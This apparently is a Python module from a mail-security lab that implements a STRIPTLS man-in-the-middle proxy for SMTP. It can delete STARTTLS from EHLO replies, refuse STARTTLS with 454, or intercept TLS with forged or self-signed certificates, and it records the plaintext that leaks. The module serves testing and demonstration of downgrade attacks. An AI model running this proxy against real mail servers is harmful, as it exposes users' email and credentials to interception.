"""The lab's STRIPTLS attacker: a man-in-the-middle TCP proxy in front of an SMTP receiver.

SMTP between mail servers starts in plain text and is upgraded only if the receiver offers
STARTTLS in its EHLO reply (RFC 3207 §4). Everything before the TLS handshake is unprotected,
so an on-path attacker can (``AttackMode``):

- ``pass``: forward every byte unchanged (an honest path, for comparison);
- ``strip``: delete the ``STARTTLS`` line from the EHLO reply and leave every other line as it
  was (RFC 5321 §4.2.1: the last line of a multi-line reply has a space after the code, so the
  separator is fixed when STARTTLS was last), and answer a STARTTLS sent anyway with ``502``;
- ``454``: forward the EHLO reply but answer STARTTLS itself with ``454`` (RFC 3207 §4: "TLS
  not available due to temporary reason"), which opportunistic senders treat as "send in clear";
- ``intercept-*``: answer STARTTLS with ``220`` itself, finish the client's handshake with its
  own certificate (self-signed, or lab-CA-issued for another name), run STARTTLS to the real
  server as a client without verification, and relay the decrypted stream.

Whatever it can read in plain text it records, per connection and in total, so tests and the
demo can show what leaked. Untrusted input is bounded: lines longer than ``LINE_LIMIT`` are
forwarded in pieces without interpretation, and replies of more than ``REPLY_LINE_LIMIT`` lines
are forwarded without editing.
"""

from __future__ import annotations

import asyncio
import ssl
from collections.abc import Sequence
from dataclasses import dataclass, field

from mxguard.lab.pki import LabPKI
from mxguard.lab.scenario import AttackMode, CertKind

LINE_LIMIT = 4096  # bytes held while looking for the end of a line
REPLY_LINE_LIMIT = 100  # lines of one multi-line reply held back in strip mode
_READ_CHUNK = 65536
_CONNECT_TIMEOUT = 10.0
_HANDSHAKE_TIMEOUT = 10.0
_STOP_GRACE = 2.0

REPLY_502 = b"502 5.5.1 Command not implemented\r\n"
REPLY_454 = b"454 4.7.0 TLS not available due to temporary reason\r\n"
REPLY_220 = b"220 2.0.0 Ready to start TLS\r\n"

_INTERCEPT_CERTS = {
    AttackMode.INTERCEPT_SELF_SIGNED: CertKind.SELF_SIGNED,
    AttackMode.INTERCEPT_WRONG_NAME: CertKind.WRONG_NAME,
}


def _keyword(line: bytes) -> bytes:
    """The EHLO keyword of a reply line (RFC 5321 §4.1.1.1: ehlo-line = keyword *(SP param))."""
    words = line[4:].split()
    return words[0].upper() if words else b""


def strip_starttls(reply: Sequence[bytes]) -> list[bytes]:
    """The lines of one SMTP reply with any ``STARTTLS`` extension line deleted.

    Only a ``250`` reply's ehlo-lines (every line after the first, which greets with the server's
    domain, RFC 5321 §4.1.1.1) are considered; other lines are returned byte for byte. If the
    deleted line was the last one, the new last line gets the final ``250 `` separator
    (RFC 5321 §4.2.1), so the client still sees a well-formed reply.
    """
    lines = list(reply)
    if not lines or not lines[0].startswith(b"250"):
        return lines
    kept = [lines[0]] + [ln for ln in lines[1:] if _keyword(ln) != b"STARTTLS"]
    if len(kept) < len(lines) and lines[-1] is not kept[-1]:
        last = kept[-1]
        kept[-1] = last[:3] + b" " + last[4:]
    return kept


def _is_last_line(line: bytes) -> bool:
    # RFC 5321 §4.2.1: "ddd-" continues a reply; "ddd " or a bare "ddd" ends it.
    return len(line) < 4 or line[3:4] != b"-"


class _LineReader:
    """Reads a stream as lines (ending in LF), holding at most LINE_LIMIT bytes of one line.

    Every byte read is appended to ``transcript``. ``read()`` returns ``(data, whole)``:
    ``whole`` is false for a piece of an overlong line (or a final line without LF), which the
    caller forwards without interpreting it. ``b""`` means end of stream.
    """

    def __init__(self, reader: asyncio.StreamReader, transcript: bytearray) -> None:
        self._reader = reader
        self._transcript = transcript
        self._buf = bytearray()
        self._eof = False
        self._in_long_line = False

    async def read(self) -> tuple[bytes, bool]:
        while True:
            end = self._buf.find(b"\n")
            if end >= 0:
                line = bytes(self._buf[: end + 1])
                del self._buf[: end + 1]
                whole = not self._in_long_line
                self._in_long_line = False
                return line, whole
            if len(self._buf) > LINE_LIMIT or (self._eof and self._buf):
                piece = bytes(self._buf)
                self._buf.clear()
                self._in_long_line = True
                return piece, False
            if self._eof:
                return b"", False
            chunk = await self._reader.read(_READ_CHUNK)
            if chunk:
                self._buf += chunk
                self._transcript += chunk
            else:
                self._eof = True

    async def read_any(self) -> bytes:
        """Whatever is buffered or arrives next, lines or not (``b""`` at end of stream)."""
        if not self._buf and not self._eof:
            chunk = await self._reader.read(_READ_CHUNK)
            self._transcript += chunk
            self._buf += chunk
            self._eof = not chunk
        data = bytes(self._buf)
        self._buf.clear()
        return data

    def discard_buffered(self) -> None:
        # RFC 3207 §4.2 (and §5): plain text that followed STARTTLS must not be taken as
        # part of the protected session.
        self._buf.clear()


@dataclass(frozen=True)
class AttackSession:
    """What the attacker saw and did on one proxied connection."""

    mode: AttackMode
    peer: str  # "ip:port" of the client
    client_bytes: bytes  # everything read from the client in plain text (decrypted if intercepted)
    server_bytes: bytes  # everything read from the server in plain text
    stripped: bool  # STARTTLS was deleted from an EHLO reply
    refused: bool  # the client's STARTTLS was answered with 502 or 454 by the attacker
    intercepted: bool  # the client completed a TLS handshake with the attacker's certificate
    client_tls_version: str | None  # of the intercepted client session
    upstream_tls: bool  # the attacker ran TLS to the real server (intercept modes)
    error: str | None  # why the connection ended abnormally, if it did
    open: bool  # the connection is still being proxied


@dataclass(eq=False)  # identity semantics: kept in a set
class _Conn:
    """Mutable per-connection state; ``snapshot()`` is what callers get to see."""

    mode: AttackMode
    peer: str
    client_w: asyncio.StreamWriter
    client_bytes: bytearray = field(default_factory=bytearray)
    server_bytes: bytearray = field(default_factory=bytearray)
    stripped: bool = False
    refused: bool = False
    intercepted: bool = False
    client_tls_version: str | None = None
    upstream_tls: bool = False
    error: str | None = None
    open: bool = True
    upstream_w: asyncio.StreamWriter | None = None
    raw: bool = False  # forward without looking at lines (pass mode, or after interception)
    in_data: bool = False  # between DATA and the lone "." (RFC 5321 §4.1.1.4)
    starttls_reply: asyncio.Future[list[bytes]] | None = None
    resume_server: asyncio.Event = field(default_factory=asyncio.Event)

    def snapshot(self) -> AttackSession:
        return AttackSession(
            mode=self.mode,
            peer=self.peer,
            client_bytes=bytes(self.client_bytes),
            server_bytes=bytes(self.server_bytes),
            stripped=self.stripped,
            refused=self.refused,
            intercepted=self.intercepted,
            client_tls_version=self.client_tls_version,
            upstream_tls=self.upstream_tls,
            error=self.error,
            open=self.open,
        )

    def close(self, *, abort: bool = False) -> None:
        for w in (self.client_w, self.upstream_w):
            if w is not None and not w.transport.is_closing():
                if abort:
                    w.transport.abort()
                else:
                    w.close()


async def _send(writer: asyncio.StreamWriter, data: bytes) -> None:
    writer.write(data)
    await writer.drain()


def _upstream_tls_context() -> ssl.SSLContext:
    # The attacker does not care who the real server is; it only wants the plain text.
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


class Attacker:
    """A STRIPTLS man in the middle listening on ``listen`` and forwarding to ``upstream``.

    ``name`` is the MX host name it impersonates (used for its intercepting certificates and as
    SNI upstream). ``mode`` may be changed while running; connections accepted afterwards use it.
    """

    def __init__(
        self,
        name: str,
        listen: tuple[str, int],
        upstream: tuple[str, int],
        mode: AttackMode,
        pki: LabPKI,
    ) -> None:
        self.name = name
        self.listen = listen
        self.upstream = upstream
        self.mode = mode
        self.pki = pki
        self._conns: list[_Conn] = []  # recorded since start() or clear()
        self._live: set[_Conn] = set()  # being proxied now
        self._tasks: set[asyncio.Task[None]] = set()
        self._server: asyncio.Server | None = None

    # --- lifecycle ------------------------------------------------------------------------

    async def start(self) -> None:
        """Bind ``listen`` and start proxying in the running event loop."""
        if self._server is not None:
            raise RuntimeError(f"attacker {self.name!r} is already running")
        host, port = self.listen
        self._server = await asyncio.start_server(self._handle, host, port)
        self.listen = (host, self._server.sockets[0].getsockname()[1])

    async def stop(self) -> None:
        """Stop listening, cut every proxied connection and wait until its task has ended."""
        server, self._server = self._server, None
        if server is None:
            return
        server.close()
        for conn in list(self._live):
            conn.close(abort=True)
        tasks = set(self._tasks)
        if tasks:
            _, pending = await asyncio.wait(tasks, timeout=_STOP_GRACE)
            for task in pending:
                task.cancel()
            if pending:
                await asyncio.wait(pending)
        await server.wait_closed()

    # --- what was seen --------------------------------------------------------------------

    @property
    def sessions(self) -> list[AttackSession]:
        """One record per connection since start (or clear()), oldest first."""
        return [c.snapshot() for c in self._conns]

    def client_bytes(self) -> bytes:
        """Everything read from clients, all connections concatenated."""
        return b"".join(bytes(c.client_bytes) for c in self._conns)

    def server_bytes(self) -> bytes:
        """Everything read from the real server, all connections concatenated."""
        return b"".join(bytes(c.server_bytes) for c in self._conns)

    def clear(self) -> None:
        """Forget every recorded session; connections still open go on, unrecorded."""
        self._conns = []

    # --- proxying -------------------------------------------------------------------------

    async def _handle(self, client_r: asyncio.StreamReader, client_w: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        assert task is not None
        self._tasks.add(task)
        peername = client_w.get_extra_info("peername")
        conn = _Conn(
            mode=AttackMode(self.mode), peer=f"{peername[0]}:{peername[1]}", client_w=client_w
        )
        conn.raw = conn.mode is AttackMode.PASS
        self._conns.append(conn)
        self._live.add(conn)
        try:
            await self._proxy(conn, client_r)
        except asyncio.CancelledError:
            # Only stop() cancels these tasks; ending quietly keeps asyncio's stream callback
            # from logging the cancellation as an error.
            conn.error = conn.error or "stopped"
        finally:
            conn.close(abort=True)
            conn.open = False
            self._live.discard(conn)
            self._tasks.discard(task)

    async def _proxy(self, conn: _Conn, client_r: asyncio.StreamReader) -> None:
        try:
            async with asyncio.timeout(_CONNECT_TIMEOUT):
                upstream_r, upstream_w = await asyncio.open_connection(*self.upstream)
        except (OSError, TimeoutError) as exc:
            conn.error = f"cannot reach upstream {self.upstream[0]}:{self.upstream[1]}: {exc!r}"
            return
        conn.upstream_w = upstream_w
        client = _LineReader(client_r, conn.client_bytes)
        server = _LineReader(upstream_r, conn.server_bytes)
        try:
            async with asyncio.TaskGroup() as tg:
                tg.create_task(self._client_to_server(conn, client, server))
                tg.create_task(self._server_to_client(conn, server))
        except* (OSError, ssl.SSLError, EOFError, TimeoutError) as group:
            # A client that resets the connection or rejects our certificate ends only its
            # own session; the attacker keeps serving others.
            conn.error = "; ".join(repr(e) for e in group.exceptions)

    async def _client_to_server(
        self, conn: _Conn, client: _LineReader, server: _LineReader
    ) -> None:
        assert conn.upstream_w is not None
        try:
            while True:
                if conn.raw:
                    data = await client.read_any()
                    if not data:
                        return
                    await _send(conn.upstream_w, data)
                    continue
                data, whole = await client.read()
                if not data:
                    return
                if not whole:
                    await _send(conn.upstream_w, data)
                    continue
                text = data.rstrip(b"\r\n")
                if conn.in_data:
                    if text == b".":
                        conn.in_data = False
                    await _send(conn.upstream_w, data)
                    continue
                command = text.strip().upper()
                if command == b"STARTTLS" and await self._on_starttls(conn, client, server):
                    continue
                if command == b"DATA":
                    conn.in_data = True
                await _send(conn.upstream_w, data)
        finally:
            # Closing one side closes the other.
            conn.close()

    async def _on_starttls(self, conn: _Conn, client: _LineReader, server: _LineReader) -> bool:
        """Act on the client's STARTTLS; true when the command must not be forwarded."""
        if conn.mode is AttackMode.STRIP:
            # The client was told there is no STARTTLS; a real server would say 502.
            conn.refused = True
            await _send(conn.client_w, REPLY_502)
            return True
        if conn.mode is AttackMode.REFUSE_454:
            conn.refused = True
            await _send(conn.client_w, REPLY_454)
            return True
        if conn.mode in _INTERCEPT_CERTS:
            await self._intercept(conn, client, server)
            return True
        return False

    async def _intercept(self, conn: _Conn, client: _LineReader, server: _LineReader) -> None:
        assert conn.upstream_w is not None
        loop = asyncio.get_running_loop()
        conn.starttls_reply = loop.create_future()
        await _send(conn.upstream_w, b"STARTTLS\r\n")
        async with asyncio.timeout(_HANDSHAKE_TIMEOUT):
            reply = await conn.starttls_reply
        # The server pump now waits on resume_server, so nobody reads either stream while
        # the transports are switched to TLS.
        if reply and reply[-1].startswith(b"220"):
            server.discard_buffered()
            await conn.upstream_w.start_tls(
                _upstream_tls_context(),
                server_hostname=self.name,
                ssl_handshake_timeout=_HANDSHAKE_TIMEOUT,
            )
            conn.upstream_tls = True
        # Otherwise the real server has no TLS: the client will still believe it has.
        identity = self.pki.issue(self.name, _INTERCEPT_CERTS[conn.mode])
        client.discard_buffered()
        # No await between the 220 and start_tls, which pauses reading: the client's
        # ClientHello cannot be read as plain text in between.
        conn.client_w.write(REPLY_220)
        await conn.client_w.start_tls(
            identity.server_context(), ssl_handshake_timeout=_HANDSHAKE_TIMEOUT
        )
        conn.intercepted = True
        ssl_object = conn.client_w.get_extra_info("ssl_object")
        conn.client_tls_version = ssl_object.version() if ssl_object is not None else None
        conn.raw = True
        conn.in_data = False
        conn.resume_server.set()

    async def _server_to_client(self, conn: _Conn, server: _LineReader) -> None:
        reply: list[bytes] = []  # lines of the reply being collected (not forwarded yet)
        try:
            while True:
                if conn.raw:
                    await self._forward_reply(conn, reply, edit=False)
                    data = await server.read_any()
                    if not data:
                        break
                    await _send(conn.client_w, data)
                    continue
                data, whole = await server.read()
                if not data:
                    break
                if not whole:
                    await self._forward_reply(conn, reply, edit=False)
                    await _send(conn.client_w, data)
                    continue
                reply.append(data)
                if not _is_last_line(data) and len(reply) < REPLY_LINE_LIMIT:
                    continue
                pending = conn.starttls_reply
                if pending is not None and not pending.done():
                    # The answer to the STARTTLS the attacker sent on the client's behalf.
                    pending.set_result(reply)
                    reply = []
                    await conn.resume_server.wait()
                    continue
                await self._forward_reply(conn, reply, edit=_is_last_line(data))
        finally:
            pending = conn.starttls_reply
            if pending is not None and not pending.done():
                pending.set_exception(EOFError("the server closed before answering STARTTLS"))
            conn.close()

    async def _forward_reply(self, conn: _Conn, reply: list[bytes], *, edit: bool) -> None:
        """Send the collected ``reply`` lines to the client (edited in strip mode) and empty it."""
        if not reply:
            return
        lines = reply
        if edit and conn.mode is AttackMode.STRIP:
            lines = strip_starttls(reply)
            if len(lines) != len(reply):
                conn.stripped = True
        await _send(conn.client_w, b"".join(lines))
        reply.clear()


__all__ = [
    "LINE_LIMIT",
    "REPLY_220",
    "REPLY_454",
    "REPLY_502",
    "AttackSession",
    "Attacker",
    "strip_starttls",
]
